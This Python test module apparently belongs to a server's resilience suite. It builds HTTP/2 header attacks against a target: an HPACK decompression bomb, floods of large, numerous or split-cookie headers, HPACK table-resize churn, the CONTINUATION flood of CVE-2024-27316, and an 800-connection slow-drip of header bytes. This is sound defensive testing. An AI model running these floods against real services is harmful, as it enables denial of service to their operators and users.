# SPDX-License-Identifier: Apache-2.0
"""Headers: too many, too long, small on the wire, or without end."""

import time

from support.attacks import Steps, Target, attack
from support.attacks.raw import (
    HEALTH, OPENING, STREAM_SCORE_ROWS, WIDE, Raw, call, flood, flood_of_calls, message)
from support.http2_frames import (
    CONTINUATION, END_HEADERS, END_STREAM, FRAME_BYTES, HEADERS, block, frame, literal)
from support.raw_http2 import Connection, framed

# HPACK: an entry added to the table with a new name, and the first entry that was added.
ADDED, FIRST_ADDED = b"\x40", b"\xbe"
TABLE_EMPTIED, TABLE_FILLED = b"\x20", b"\x3f\xe1\x1f"
RESOURCE_EXHAUSTED = 8


def in_frames(stream: int, content: bytes, last_flags: int = END_HEADERS) -> bytes:
    """A header block in HEADERS and CONTINUATION."""
    cut = [content[at:at + FRAME_BYTES] for at in range(0, len(content), FRAME_BYTES)]
    sent = b""
    for number, part in enumerate(cut):
        kind, flags = (CONTINUATION, 0) if number else (HEADERS, END_STREAM)
        sent += frame(kind, flags | (last_flags if number == len(cut) - 1 else 0), stream, part)
    return sent


@attack(lambda it: 4 * it.headerFloodBytesMax)
def metadata_of_70_kib(target: Target) -> Steps:
    """In one call, whose neighbours on the connection must be answered."""
    large = {f"x-{number}": "a" * 14_000 for number in range(5)}
    while True:
        with Connection(target) as connection:
            waiting = connection.send(STREAM_SCORE_ROWS, b"", end=False)
            for _ in range(20):
                refused = connection.receive(connection.send(HEALTH, b"", replace=large))
                assert refused.status == RESOURCE_EXHAUSTED, refused
                answered = connection.receive(connection.send(HEALTH, framed(b"")))
                assert answered.status == 0, answered
                yield 1
            connection.session.reset_stream(waiting)
            connection.flush()


@attack(lambda it: 4 * it.headerFloodBytesMax)
def headers_that_unpack_to_much(target: Target) -> Steps:
    """HPACK's bomb: one entry of the table, named thousands of times by a byte each."""
    entry = ADDED + literal("x", "a" * 3_900)[1:]

    def made(stream: int) -> bytes:
        return in_frames(stream, block() + entry + FIRST_ADDED * 16_000)

    return flood_of_calls(target, made, together=1)


@attack(lambda it: 4 * it.headerFloodBytesMax)
def headers_that_unpack_to_what_is_refused(target: Target) -> Steps:
    """The same below the limit at which a peer is sent away."""
    entry = ADDED + literal("x", "a" * 3_900)[1:]

    def made(stream: int) -> bytes:
        return in_frames(stream, block() + entry + FIRST_ADDED * 250)

    return flood_of_calls(target, made, together=10)


@attack(lambda it: 4 * it.headerFloodBytesMax)
def very_many_headers(target: Target) -> Steps:
    """5,000 fields of a few bytes in each call."""
    fields = b"".join(literal("a", "b") for _ in range(5_000))
    return flood_of_calls(target, lambda stream: in_frames(stream, block() + fields), together=5)


@attack(lambda it: 4 * it.headerFloodBytesMax)
def very_many_cookies(target: Target) -> Steps:
    """Cookies in crumbs, which some servers put together again."""
    fields = b"".join(literal("cookie", f"a{n}=b") for n in range(3_000))
    return flood_of_calls(target, lambda stream: in_frames(stream, block() + fields), together=5)


@attack()
def tables_that_change_their_size(target: Target) -> Steps:
    """HPACK's table emptied and filled before each request."""
    entry = ADDED + literal("x", "a" * 3_900)[1:]
    sent = TABLE_EMPTIED + TABLE_FILLED + block() + entry
    return flood_of_calls(
        target, lambda stream: frame(HEADERS, END_STREAM | END_HEADERS, stream, sent))


@attack(lambda it: 4 * it.headerFloodBytesMax)
def continuations_without_end(target: Target) -> Steps:
    """CVE-2024-27316: a header block that goes on."""
    opening = OPENING + frame(HEADERS, END_STREAM, 1, block())
    more = frame(CONTINUATION, 0, 1, literal("x-more", "a" * 1_000))
    return flood(target, more * 20, 20, opening=opening)


@attack(lambda it: it.addressConnectionsMax * (64 << 10))
def headers_that_drip(target: Target) -> Steps:
    """800 connections with half a header block, of which a byte comes now and then."""
    opening = OPENING + frame(HEADERS, END_STREAM, 1, block() + b"\0\x7f")
    raws = []
    for _ in range(800):
        raws.append(Raw(target, opening))
        yield 1
    while True:
        for number, raw in enumerate(raws):
            if raw.is_over:
                raws[number] = Raw(target, opening)
            raw.send(frame(CONTINUATION, 0, 1, b"x"), 0.01)
        yield len(raws)
        time.sleep(0.2)


@attack()
def long_paths_and_deadlines_that_are_none(target: Target) -> Steps:
    """Calls that are refused by what stands in their header."""
    wrong = [("grpc-timeout", "9" * 500 + "S"), ("content-type", "x" * 4_000),
             ("grpc-encoding", "e" * 4_000), ("te", "nothing")]

    def made(stream: int) -> bytes:
        field = wrong[stream // 2 % len(wrong)]
        return call(stream, HEALTH + "x" * 4_000, message(b""), more=(field,))

    return flood_of_calls(target, made, opening=WIDE)
